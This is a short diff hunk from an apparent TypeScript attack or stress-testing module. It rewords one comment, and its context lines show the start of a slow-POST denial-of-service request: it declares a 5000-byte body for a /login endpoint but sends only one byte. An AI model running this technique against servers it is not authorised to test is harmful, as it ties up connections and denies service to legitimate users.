@@ -30,7 +30,7 @@ export const attack: Attack = {
 function begin(host: string, port: number): Socket {
   const socket = connect(port, host)
   socket.on('error', () => undefined)
-  // Unread data would keep the end of the connection from being seen.
+  // Unread data would hide the end of the connection.
   socket.resume()
   socket.write(
     `POST /login HTTP/1.1\r\nHost: ${host}\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{`,
